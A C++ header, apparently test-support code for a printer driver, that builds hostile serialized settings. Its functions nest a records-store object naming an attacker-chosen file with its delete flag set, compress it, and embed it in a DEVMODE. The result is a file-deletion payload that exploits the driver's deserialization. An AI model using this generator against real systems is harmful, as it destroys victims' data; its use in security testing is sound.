// Settings bytes as an attacker writes them: the native coding of a settings tree that
// holds a records store naming a file of the attacker's choice with its delete flag
// set, packed as a DEVMODE of the driver carries it (zlib, or the older LZW).
#pragma once

#include "foundation/RWCString.h"
#include "model/GAttributeComposite.h"
#include "model/GLZWCodec.h"
#include "model/GStreamHolder.h"
#include "model/GValue32Attribute.h"
#include "model/GValueAttribute.h"
#include "model/MPersistentCompositeOnDisk.h"

#include <zlib.h>

#include <algorithm>
#include <cstdint>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

namespace HostileSettings {

typedef std::vector<uint8_t> Bytes;

inline Bytes Native(const RWCollectable* object)
{
    Bytes buffer(8192);
    GOutStreamHolder holder(buffer.data(), uint32_t(buffer.size()), 1);
    *holder.GetStream() << object;
    holder.GetStream()->Flush();
    buffer.resize(size_t(holder.Tell()));
    return buffer;
}

inline void PutU32(Bytes& bytes, uint32_t value)
{
    for (int i = 0; i < 4; ++i)
        bytes.push_back(uint8_t(value >> (8 * i)));
}

// A text in the stream form of the native coding.
inline Bytes TextBytes(const std::string& text)
{
    Bytes buffer(text.size() + 64);
    GOutStreamHolder holder(buffer.data(), uint32_t(buffer.size()), 1);
    RWCString(text.c_str()).SaveOn(*holder.GetStream());
    holder.GetStream()->Flush();
    buffer.resize(size_t(holder.Tell()));
    return buffer;
}

// A records store, open, naming the file, with the delete flag set: the stored form
// ends with the state, the name and the flag, then the closing '}'.
inline Bytes StoreNaming(const std::string& name)
{
    MPersistentCompositeOnDisk closed;
    Bytes bytes = Native(&closed);
    const size_t tail = 4 + TextBytes("").size() + 4 + 1;
    if (bytes.size() < tail)
        return Bytes();
    bytes.resize(bytes.size() - tail);
    PutU32(bytes, MPersistentCompositeOnDisk::kOpen);
    const Bytes text = TextBytes(name);
    bytes.insert(bytes.end(), text.begin(), text.end());
    PutU32(bytes, 1);
    bytes.push_back('}');
    return bytes;
}

// A settings tree whose member depth levels down is the object in the bytes given.
inline Bytes TreeHolding(const Bytes& object, int depth)
{
    std::unique_ptr<GValue32Attribute> marker(new GValue32Attribute(0x5A5A5A5A, 977));
    const Bytes markerBytes = Native(marker.get());
    GObjectBase* node = marker.release();
    for (int level = depth; level >= 0; --level) {
        GAttributeComposite* composite = new GAttributeComposite(level == 0 ? 362 : 970 + level);
        composite->Add(new GValueAttribute(uint16_t(level), 980 + level));
        composite->Add(node);
        node = composite;
    }
    std::unique_ptr<GObjectBase> tree(node);
    Bytes bytes = Native(tree.get());
    const auto at = std::search(bytes.begin(), bytes.end(), markerBytes.begin(), markerBytes.end());
    if (at == bytes.end())
        return Bytes();
    const size_t offset = size_t(at - bytes.begin());
    bytes.erase(bytes.begin() + offset, bytes.begin() + offset + markerBytes.size());
    bytes.insert(bytes.begin() + offset, object.begin(), object.end());
    return bytes;
}

inline Bytes Zlib(const Bytes& data)
{
    uLongf size = compressBound(uLong(data.size()));
    Bytes packed(size);
    if (compress2(packed.data(), &size, data.data(), uLong(data.size()), Z_DEFAULT_COMPRESSION) != Z_OK)
        return Bytes();
    packed.resize(size);
    return packed;
}

inline Bytes Lzw(const Bytes& data)
{
    std::istringstream in(std::string(data.begin(), data.end()));
    std::ostringstream out;
    GLZWCodec codec;
    if (codec.Compress(in, out) != 1)
        return Bytes();
    const std::string text = out.str();
    return Bytes(text.begin(), text.end());
}

// A DEVMODE of the driver (1172 bytes) carrying the packed bytes in its private part.
inline Bytes Carrying(Bytes devMode, const Bytes& packed)
{
    const size_t lengthAt = 266, packedAt = 270;
    if (devMode.size() < 1172 || packed.size() > 902)
        return Bytes();
    devMode[lengthAt] = uint8_t(packed.size());
    devMode[lengthAt + 1] = uint8_t(packed.size() >> 8);
    std::copy(packed.begin(), packed.end(), devMode.begin() + packedAt);
    return devMode;
}

} // namespace HostileSettings
